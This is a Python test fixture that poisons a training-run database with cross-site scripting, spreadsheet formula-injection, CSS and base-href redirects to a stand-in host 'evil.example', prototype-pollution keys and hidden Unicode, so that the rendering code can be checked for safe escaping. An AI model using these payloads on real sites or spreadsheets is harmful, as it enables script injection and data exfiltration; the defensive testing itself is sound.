"""A store whose every field that somebody can write holds what would run in a browser, were it taken for markup.

Each text of the schema takes its turn of `ATTACKS`, so that each attack stands in each column of some row: script as HTML,
in attributes, in SVG, in URLs and styles; formulas; characters that are not seen, or that turn a text about.
"""

import json
import math
import time
from array import array
from pathlib import Path
from typing import Any

from sqlalchemy import JSON, CheckConstraint, Column, Connection, Float, String, Table, Text, text

from agentrl.workflow.store.reads.load_rows import SLOT_SECONDS
from agentrl.workflow.tables import schema
from bench.performance import synthetic

HOST = "evil.example"
SURROGATE = "\ud83e"
"""Half of a letter: JSON holds it, UTF-8 does not."""
ODD = "\u0000\u0007\u001b[31m\u202ereversed\u2066\u200b\ufeff\x85 a/b\\c 🦊👩‍👩‍👧"
ATTACKS = (
    '<script>window.pwned=1</script><img src=x onerror="window.pwned=2"><svg onload=window.pwned=3>',
    "\"'><img src=x onerror=window.pwned=4> onmouseover='window.pwned=5' style=\"background:url(//" + HOST + '/a)" autofocus ',
    "javascript:window.pwned=6//%0Aalert(7)/",
    f'=HYPERLINK("http://{HOST}/?"&A1,"x")+cmd|\' /C calc\'!A0',
    f"</script></style></title></textarea><!--<iframe src=http://{HOST}/ onload=window.pwned=8></iframe>" + ODD,
    "+1+cmd|' /C calc'!A0/../${window.pwned=9}{{window.pwned=10}}",
    "-2+3\t@SUM(1)\r\n<a href='javascript:window.pwned=11' onclick=window.pwned=12>x</a>",
    f'@import url(http://{HOST}/b.css);<base href=http://{HOST}/><form action="javascript:window.pwned=13"><button autofocus>',
)
NAMES = ("<img src=x onerror=window.pwned=1>", "javascript:window.pwned=2/🦊", "=1+1|'a'!b/../c")
"""Names of runs, short enough for their columns."""
OWN = "pol'<svg onload=window.pwned=14>"
"""A name that several tables must agree about: the reward set of all runs."""
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
KEPT = {
    ("runs", "name"), ("runs", "config"), ("runs", "reward_set"), ("reward_sets", "name"), ("consumptions", "stage"),
    ("episodes", "stop_reason"), ("tool_calls", "sandbox"), ("tool_calls", "exit_status"),
}  # fmt: skip
"""What has a rule of its own below, or none that a person writes."""
MIXED = "CASE rowid % 3 WHEN 0 THEN 9e999 WHEN 1 THEN -9e999 ELSE {} END"
"""Of three rows one holds infinity, one the other infinity, one what it held: as a format of the column."""
TOKENS = (synthetic.PROMPT_TOKENS, synthetic.SAMPLED_TOKENS)
RARELY = {"dropped", "skipped", "new_row", "broken", "error_class", "error"}
"""What is empty in a row of which all is well: filled in every third."""


def poison(tx: Connection, model: Path) -> None:
    """Writes the attacks over every text of a filled SQLite store; the first run's model is the one of that folder."""
    tx.execute(text("CREATE TEMP TABLE attacks (n INTEGER PRIMARY KEY, said TEXT)"))
    tx.execute(text("INSERT INTO attacks VALUES (:n, :said)"), [{"n": n, "said": said} for n, said in enumerate(ATTACKS)])
    _names(tx)
    tx.execute(text("UPDATE tool_calls SET kind = 'grade' WHERE id % 5 = 0"))
    tx.execute(text("INSERT INTO run_tags (run_id, tag) SELECT id, 'tag' FROM runs"))
    tx.execute(text("INSERT INTO run_notes (run_id, text) SELECT id, 'note' FROM runs"))
    for table in schema.metadata.sorted_tables:
        _overwrite(tx, table)
    tx.execute(text("UPDATE episodes SET stop_reason = (SELECT said FROM attacks WHERE n = id % 8) WHERE status = 'done'"))
    tx.execute(text("UPDATE tool_calls SET sandbox = tool, exit_status = tool"))
    tx.execute(text("UPDATE runs SET base = :base WHERE id = 1"), {"base": str(model)})
    tx.execute(text("UPDATE runs SET config = :config"), {"config": json.dumps(_config())})
    prompt, sampled = (_packed("i", [*range(len(ATTACKS)), -1, 2**31 - 1], many) for many in TOKENS)
    packed = {"prompt": prompt, "sampled": sampled, "numbers": _packed("f", [-0.5, -7.0], TOKENS[1])}
    update = "UPDATE step_tokens SET prompt_ids = :prompt, sampled_ids = :sampled, behavior_logprobs = :numbers"
    tx.execute(text(update), packed)
    tx.execute(text("DROP TABLE attacks"))
    loads = {"now": int(time.time()) // SLOT_SECONDS, "gpus": json.dumps([{"name": said, "share": said} for said in ATTACKS])}
    insert = text("INSERT INTO machine_loads (slot, host, cpu_share, gpus) VALUES (:now, :host, 0.5, :gpus)")
    tx.execute(insert, [loads | {"host": said} for said in ATTACKS])


def _packed(kind: str, values: list[Any], many: int) -> bytes:
    return array(kind, (values * many)[:many]).tobytes()


def make_hostile_model(folder: Path) -> Path:
    """A model's folder, hostile by its name, whose tokens are the attacks."""
    made = folder / "\"><img src=x onerror='window.pwned=15'>🦊"
    made.mkdir()
    vocabulary = {said: number for number, said in enumerate(ATTACKS)}
    model = {"type": "WordLevel", "vocab": vocabulary, "unk_token": ATTACKS[0]}
    (made / "tokenizer.json").write_text(json.dumps({"version": "1.0", "added_tokens": [], "model": model}))
    return made


def _names(tx: Connection) -> None:
    """Each run's name, wherever it stands; the reward set's, which three tables have."""
    runs = tx.execute(text("SELECT id, name FROM runs")).all()
    for number, name in runs:
        now = f"{NAMES[number % len(NAMES)]}{number}"
        tx.execute(text("UPDATE runs SET name = :now WHERE id = :id"), {"now": now, "id": number})
        for table in schema.metadata.sorted_tables:
            if "run" in table.c:
                tx.execute(text(f"UPDATE {table.name} SET run = :now WHERE run = :name"), {"now": now, "name": name})
    tx.execute(text("UPDATE runs SET reward_set = :own WHERE kind <> 'eval'"), {"own": OWN})
    tx.execute(
        text(
            "UPDATE reward_sets SET name = :own WHERE name = 'default' AND run_id IN (SELECT id FROM runs WHERE kind <> 'eval')"
        ),
        {"own": OWN},
    )


def _overwrite(tx: Connection, table: Table) -> None:
    for column in table.c:
        if (table.name, column.name) in KEPT or column.name == "run" or _is_checked(table, column):
            continue
        seldom = " WHERE rowid % 3 = 0" if column.name in RARELY else ""
        if isinstance(column.type, JSON):
            said = json.dumps(_document(f"{table.name}.{column.name}"))
            tx.execute(text(f"UPDATE {table.name} SET {column.name} = :said{seldom}"), {"said": said})
        elif isinstance(column.type, String | Text):
            attack = f"(SELECT said FROM attacks WHERE n = ({table.name}.rowid + {len(column.name)}) % {len(ATTACKS)})"
            tx.execute(text(f"UPDATE {table.name} SET {column.name} = {attack} || {table.name}.rowid{seldom}"))


def _is_checked(table: Table, column: Column[Any]) -> bool:
    """Whether the database itself allows but a few values."""
    checks = [str(each.sqltext) for each in table.constraints if isinstance(each, CheckConstraint)]
    return any(check.startswith(f"{column.name} IN (") for check in checks)


def _document(where: str) -> Any:
    """What stands in a JSON column."""
    said = "".join(ATTACKS) + SURROGATE
    if where in ("steps.prompt", "tasks.messages", "critic_calls.messages", "groups.opening"):
        parts = [{"type": "image_url", "image_url": {"url": ATTACKS[2]}}, {"type": "text", "text": said}]
        calls = [{"id": said, "name": said, "arguments": {said: said}}]
        first = {"role": "system", "content": said, "thought": said, "name": said, "tool_calls": calls}
        odd = ({"role": said, "content": said}, {"role": "tool", "content": {said: said}})
        return [first, {"role": "user", "content": parts}, *odd]
    if where == "reward_sets.weights":
        return {said: 1.0, "numeric_answer": 1.0}
    if where == "tool_calls.arguments":
        return {"code": said}
    nodes = {"type": "script", "props": {"dangerouslySetInnerHTML": {"__html": ATTACKS[0]}}, "__proto__": {"pwned": 1}}
    return {"value": said, said: [said, nodes], **nodes}


def _config() -> dict[str, Any]:
    """A config as a run has it, with the attacks as keys and values."""
    said = "".join(ATTACKS)
    odd = {"algorithm": {"name": said, said: said}, "rollout": {"group_size": 8, said: said}, said: {said: said}}
    return {"env": said, "name": said, "dataset": {"name": said, "split": said}, "model": {"name": said}, **odd}


def fill_with(tx: Connection, number: str) -> None:
    """A store with that number in every column of numbers that holds it."""
    synthetic.fill(tx, {"mine": 2, "live": 2})
    for table in schema.metadata.sorted_tables:
        for column in table.c:
            if isinstance(column.type, Float):
                tx.execute(text(f"UPDATE {table.name} SET {column.name} = {number.format(column.name)}"))
    tx.execute(text('UPDATE annotations SET data = \'{"value": NaN, "more": [Infinity, -Infinity]}\''))
    numbers = array("f", [math.nan, math.inf, -math.inf, -0.5] * (synthetic.SAMPLED_TOKENS // 4)).tobytes()
    tx.execute(text("UPDATE step_tokens SET behavior_logprobs = :numbers"), {"numbers": numbers})
